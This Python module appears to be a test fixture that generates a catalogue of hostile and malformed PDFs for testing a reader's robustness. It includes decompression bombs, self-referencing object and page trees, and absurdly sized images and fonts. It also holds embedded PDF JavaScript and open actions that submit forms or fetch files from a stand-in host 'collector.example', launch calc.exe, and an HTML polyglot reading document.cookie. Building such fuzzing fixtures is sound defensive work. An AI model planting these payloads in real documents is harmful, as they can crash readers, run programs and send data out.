"""PDFs that somebody made to do harm, or that are none: built by code, each by what it tries.

Their pages are small, so that looking for a symbol on them costs little.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable, Iterator

from fpdf import FPDF
from fpdf.enums import EncryptionMethod

_JS = b"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://collector.example/'\\);) >>"
_NOISE = random.Random(5).randbytes(4_000)
_DEEP = 50_000
_MANY = 10_000


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >> stream\n%s\nendstream" % (len(content), entries, content)


def numbered(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects without a table of them, which readers then look for."""
    parts = [b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in objects.items()]
    return b"%PDF-1.7\n" + b"".join(parts) + b"trailer << /Root 1 0 R /Size 99 " + trailer + b" >>\n%%EOF\n"


def page(
    content: bytes = b"", resources: bytes = b"", *, catalog: bytes = b"", entries: bytes = b"", **objects: bytes
) -> bytes:
    """A PDF of one page; further objects by their numbers, ``o5=…``."""
    box = b"" if b"MediaBox" in entries else b"/MediaBox [0 0 60 84]"
    whole = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R %s /Contents 4 0 R /Resources << %s >> %s >>" % (box, resources, entries),
        4: stream(content),
    }
    return numbered(whole | {int(name[1:]): each for name, each in objects.items()})


def picture(entries: bytes, content: bytes = _NOISE, size: tuple[int, int] = (60, 84)) -> bytes:
    """A page of that size in points that one image fills."""
    form = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray " + entries
    box = b"/MediaBox [0 0 %d %d]" % size
    return page(b"%d 0 0 %d 0 0 cm /X Do" % size, b"/XObject << /X 5 0 R >>", entries=box, o5=stream(content, form))


def text(font: bytes, **objects: bytes) -> bytes:
    """A page that writes a line in one font."""
    return page(b"BT /F 24 Tf 5 50 Td (Hello) Tj ET", b"/Font << /F 5 0 R >>", o5=font, **objects)


def _fonts() -> Iterator[tuple[str, bytes]]:
    kinds = [
        (b"Type1", b"FontFile", b""),
        (b"TrueType", b"FontFile2", b""),
        (b"Type1", b"FontFile3", b"/Subtype /Type1C"),
    ]
    for kind, key, entries in kinds:
        begun = {b"FontFile2": b"\0\1\0\0\0\xff", b"FontFile": b"%!PS-AdobeFont-1.0\n", b"FontFile3": b"\1\0\4\4"}[key]
        font = b"<< /Type /Font /Subtype /%s /BaseFont /Bad /FirstChar 0 /LastChar 255 /FontDescriptor 6 0 R >>" % kind
        described = b"<< /Type /FontDescriptor /FontName /Bad /Flags 4 /%s 7 0 R >>" % key
        program = stream(begun + _NOISE, b"/Length1 9999999 " + entries)
        yield f"a font whose {key.decode()} is noise", text(font, o6=described, o7=program)
    glyph = stream(b"1000 0 d0 BT /F 1 Tf (H) Tj ET")
    own = b"/Resources << /Font << /F 5 0 R >> >>"
    yield (
        "a font whose letter writes itself",
        text(
            b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /H 6 0 R >> "
            b"/Encoding << /Differences [72 /H] >> /FirstChar 72 /LastChar 72 /Widths [1] %s >>" % own,
            o6=glyph,
        ),
    )
    endless = b"1 begincidrange <00000000> <ffffffff> 0 endcidrange 1 beginbfrange <0000> <ffff> <0000> endbfrange"
    yield (
        "a character map without end",
        text(b"<< /Type /Font /Subtype /Type0 /BaseFont /Bad /Encoding 6 0 R /ToUnicode 6 0 R /DescendantFonts [7 0 R] >>",
             o6=stream(endless, b"/Type /CMap"), o7=b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Bad >>"),
    )  # fmt: skip


def _images() -> Iterator[tuple[str, bytes]]:
    large = b"/Width 30000 /Height 30000 /BitsPerComponent 1"
    for name in (b"JBIG2Decode", b"JPXDecode", b"CCITTFaxDecode", b"DCTDecode", b"LZWDecode", b"RunLengthDecode"):
        kind = name.decode()
        yield f"{kind} of noise", picture(b"/Width 64 /Height 64 /BitsPerComponent 1 /Filter /%s" % name)
        yield f"{kind}, larger than any sheet", picture(b"%s /Filter /%s" % (large, name))
    fax = b"/Width 1 /Height 1 /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2147483647 >>"
    yield "a fax two thousand million dots wide", picture(fax)
    yield "ten gigapixels", picture(b"/Width 100000 /Height 100000 /BitsPerComponent 8", b"abc")
    yield "an image that is its own mask", picture(b"/Width 9 /Height 9 /BitsPerComponent 8 /SMask 5 0 R", bytes(81))
    bomb = zlib.compress(zlib.compress(bytes(100_000_000), 9), 9)
    twice = b"/Width 9000 /Height 9000 /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]"
    yield "a hundred megabytes of nothing, packed twice", picture(twice, bomb)


def _structures() -> Iterator[tuple[str, bytes]]:
    plain, catalog = page(b"0 0 100 100 re f"), b"<< /Type /Catalog /Pages 2 0 R >>"
    yield (
        "a page tree within itself",
        numbered(
            {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2147483647 >>"}
        ),
    )
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 60 84] >>"
    numbers = range(3, 3 + _MANY)
    leaves = b" ".join(b"%d 0 R" % number for number in numbers)
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (leaves, _MANY)
    yield "ten thousand pages", numbered({1: catalog, 2: tree} | dict.fromkeys(numbers, leaf))
    yield "an object that is itself", numbered({1: b"1 0 R"})
    yield "a length that is its own stream", page(o5=b"<< /Length 5 0 R >> stream\nabc\nendstream")
    yield "arrays as deep as a well", numbered({1: b"[" * _DEEP + b"]" * _DEEP})
    yield "dictionaries as deep as a well", page(entries=b"/A << " * _DEEP + b">> " * _DEEP)
    yield "states as deep as a well", page(b"q " * 2_000 + b"0 0 9 9 re f")
    yield (
        "a table that leads to itself",
        plain.replace(
            b"trailer",
            b"xref\n0 1\n0000000000 65535 f \ntrailer << /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF\ntrailer",
        ),
    )
    yield "a table beyond the file", plain + b"startxref\n99999999999999999999\n%%EOF\n"
    wide = b"/Type /XRef /W [8 8 8] /Index [0 2147483647] /Size 2147483647 /Root 1 0 R"
    yield (
        "a table as a stream, wider than the file",
        b"%PDF-1.7\n9 0 obj\n" + stream(_NOISE, wide) + (b"\nendobj\nstartxref\n9\n%%EOF\n"),
    )
    yield (
        "objects packed in themselves",
        page(o5=stream(b"5 0 ", b"/Type /ObjStm /N 2147483647 /First 4 /Extends 5 0 R")),
    )
    yield "a stream longer than the file", plain.replace(b"/Length 16", b"/Length 2147483647")
    yield "cut in the middle", plain[: len(plain) // 2]


def _drawings() -> Iterator[tuple[str, bytes]]:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"
    x = b"/XObject << /X 5 0 R >>"
    yield "a form that draws itself", page(b"/X Do", x, o5=stream(b"/X Do /X Do", form))
    for box in (b"0 0 9999999 9999999", b"-1e30 -1e30 1e30 1e30", b"0 0 0 0", b"9 9 1 1", b"/a null (b) 4 0 R", b""):
        yield f"a page of the size [{box.decode()}]", page(b"0 0 9 9 re f", entries=b"/MediaBox [%s]" % box)
    yield "a page of a user unit like a wall", page(b"0 0 9 9 re f", entries=b"/UserUnit 1e9")
    calculator = stream(b"{ " * 2_000 + b"} " * 2_000, b"/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]")
    shading = b"/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 5 0 R >> >>"
    yield "a function as deep as a well", page(b"/S sh", shading, o5=calculator)
    sampled = stream(b"", b"/FunctionType 0 /Domain [0 1] /Range [0 1 0 1 0 1] /Size [2147483647] /BitsPerSample 32")
    yield "a function of two thousand million samples", page(b"/S sh", shading, o5=sampled)
    tile = stream(
        b"0 0 1 1 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1e9 1e9] /XStep 1e-9 /YStep 1e-9 "
        b"/Resources << >>",
    )
    filled = b"/Pattern cs /P scn 0 0 60 84 re f"
    yield "tiles smaller than an atom", page(filled, b"/Pattern << /P 5 0 R >>", o5=tile)
    yield "an inline image without end", page(b"BI /W 9 /H 9 /BPC 8 /CS /G ID " + _NOISE)
    yield "operators of noise", page(_NOISE)


def _actions() -> Iterator[tuple[str, bytes]]:
    yield "a script at the opening", page(catalog=b"/OpenAction " + _JS)
    yield "scripts by their names", page(catalog=b"/Names << /JavaScript << /Names [(a) " + _JS + b"] >> >>")
    yield "a script of the page", page(entries=b"/AA << /O " + _JS + b" /C " + _JS + b" >>")
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [0 0 99 99] /AA << /C " + _JS + b" >> >>"
    yield (
        "a form that reckons",
        page(
            catalog=b"/AcroForm << /Fields [5 0 R] /CO [5 0 R] /XFA (<xdp/>) >>", entries=b"/Annots [5 0 R]", o5=field
        ),
    )
    for action in (
        b"<< /S /URI /URI (https://collector.example/) >>",
        b"<< /S /Launch /F (calc.exe) >>",
        b"<< /S /GoToR /F (https://collector.example/a.pdf) /D [0 /Fit] >>",
        b"<< /S /SubmitForm /F (https://collector.example/) >>",
        b"<< /S /ImportData /F (https://collector.example/a.fdf) >>",
    ):
        kind = action.split()[2].decode()
        yield f"the action {kind} at the opening", page(catalog=b"/OpenAction " + action)


def _others() -> Iterator[tuple[str, bytes]]:
    locked = FPDF()
    locked.add_page()
    locked.set_encryption(owner_password="o", user_password="u", encryption_method=EncryptionMethod.AES_256)
    yield "locked", bytes(locked.output())
    yield (
        "locked by nothing known",
        numbered(
            {1: b"<< /Type /Catalog /Pages 2 0 R >>"}, b"/Encrypt << /Filter /Standard /V 99 /R 99 /O () /U () /P 0 >>"
        ),
    )
    yield "of no bytes", b""
    yield "of a head alone", b"%PDF-1.7"
    yield (
        "a page of the web as well",
        (b"<!doctype html><script>alert(document.cookie)</script><!--\n" + page(b"0 0 9 9 re f") + b"--></html>"),
    )
    yield "an archive as well", b"PK\3\4" + _NOISE[:200] + page(b"0 0 9 9 re f")
    yield "of noise", b"%PDF-1.7\n" + _NOISE


_KINDS: tuple[Callable[[], Iterator[tuple[str, bytes]]], ...] = (
    _actions,
    _structures,
    _drawings,
    _images,
    _fonts,
    _others,
)


def hostile_pdfs() -> dict[str, bytes]:
    """All of them: what each tries → its bytes."""
    found = [each for kind in _KINDS for each in kind()]
    assert len(dict(found)) == len(found)
    return dict(found)
